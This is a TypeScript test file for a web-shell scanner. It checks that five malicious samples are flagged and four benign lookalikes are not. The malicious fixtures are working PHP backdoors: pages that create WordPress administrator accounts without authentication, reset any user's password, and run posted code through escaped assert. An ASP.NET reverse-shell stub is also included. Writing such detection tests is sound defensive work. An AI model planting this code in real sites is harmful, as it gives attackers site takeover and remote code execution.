import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// The misses of session 24's held-out set H, looked at after its one scan with the session's
// scanner (H's figures in docs/scan.md are that scan's), each technique written again by us: H's
// files stay outside the project.
const scanner = createScanner({});
const scan = (src: string, path = '/www/x.php') => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);

const MALICIOUS: [string, string, string][] = [
  ['a standalone page that loads WordPress and makes an account with the role the form asks for', '/www/new-admin.php', `<?php
if (!file_exists('wp-load.php')) { exit('no WordPress here'); }
require_once 'wp-load.php';
if (isset($_POST['u'])) {
  $id = wp_create_user($_POST['u'], $_POST['p'], $_POST['m']);
  $who = new WP_User($id);
  $who->set_role($_POST['r']);
  echo 'ok';
}
?><form method="post"><select name="r"><option value="administrator">admin</option></select></form>`],
  ['a page that writes an administrator into the database itself', '/www/fix-db.php', `<?php
require "wp-config.php";
$db = new mysqli(DB_HOST, DB_USER, DB_PASSWORD, DB_NAME);
$n = $_POST['n'];
$st = $db->prepare("INSERT INTO wp_users (user_login, user_pass) VALUES (?, ?)");
$st->bind_param('ss', $n, $_POST['h']);
$st->execute();
$db->query("INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (" . (int) $db->insert_id . ", 'wp_capabilities', 'a:1:{s:13:\\"administrator\\";b:1;}')");`],
  ["a page that sets any account's password", '/www/pw.php', `<?php include '../wp-config.php'; $c = new PDO('mysql:host=' . DB_HOST . ';dbname=' . DB_NAME, DB_USER, DB_PASSWORD);
$c->prepare('UPDATE wp_users SET user_pass = ? WHERE user_login = ?')->execute([md5($_GET['p']), $_GET['u']]);`],
  ['function names as JSON unicode escapes, decoded and called', '/www/j.php', `<?php
function un($s) { $o = json_decode('["' . $s . '"]', true); return $o ? $o[0] : ''; }
$body = un("\\u0066\\u0069\\u006c\\u0065\\u005f\\u0067\\u0065\\u0074\\u005f\\u0063\\u006f\\u006e\\u0074\\u0065\\u006e\\u0074\\u0073")('php://input');
un("\\u0061\\u0073\\u0073\\u0065\\u0072\\u0074")($body);`],
  ['an ASP.NET page giving CreateProcess a socket through P/Invoke', '/www/r.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
[DllImport("ws2_32.dll")] static extern IntPtr WSASocketW(int af, int type, int proto, IntPtr info, uint g, uint flags);
[DllImport("ws2_32.dll")] static extern int WSAStartup(short v, out WSAData d);
[DllImport("kernel32.dll")] static extern bool CreateProcessW(string app, string line, IntPtr pa, IntPtr ta, bool inherit, uint flags, IntPtr env, string dir, ref STARTUPINFO si, out PROCESS_INFORMATION pi);
void Page_Load(object s, EventArgs e) { /* connects back, then runs the interpreter on the socket */ }
</script>`],
];

const BENIGN: [string, string, string][] = [
  ['a WordPress plugin page making users behind the capability check', '/www/wp-content/plugins/x/admin.php', `<?php
require_once dirname(__FILE__) . '/../../../wp-load.php';
if (!current_user_can('create_users')) wp_die('no');
check_admin_referer('x-add');
$id = wp_create_user(sanitize_user($_POST['u']), wp_generate_password(), sanitize_email($_POST['m']));
(new WP_User($id))->set_role('subscriber');`],
  ['an installer that loads wp-config.php and reads a form, making no account', '/www/setup.php', `<?php require 'wp-config.php'; $site = $_POST['title'] ?? ''; update_option('blogname', sanitize_text_field($site)); echo 'administrator settings saved';`],
  ['JSON with unicode escapes decoded and printed', '/www/i18n.php', `<?php $t = json_decode('{"hi":"\\u3053\\u3093\\u306b\\u3061\\u306f"}', true); echo htmlspecialchars($t['hi']);`],
  ['an ASP.NET page reading the time through P/Invoke', '/www/t.aspx', `<%@ Page Language="C#" %>
<script runat="server">
[System.Runtime.InteropServices.DllImport("kernel32.dll")] static extern uint GetTickCount();
void Page_Load(object s, EventArgs e) { Response.Write(GetTickCount()); }
</script>`],
];

describe('scan: held-out set H (session 24), its misses, samples of our own', () => {
  for (const [name, path, src] of MALICIOUS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  for (const [name, path, src] of BENIGN) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  it('ran every case', () => {
    assert.equal(MALICIOUS.length, 5);
    assert.equal(BENIGN.length, 4);
  });
});
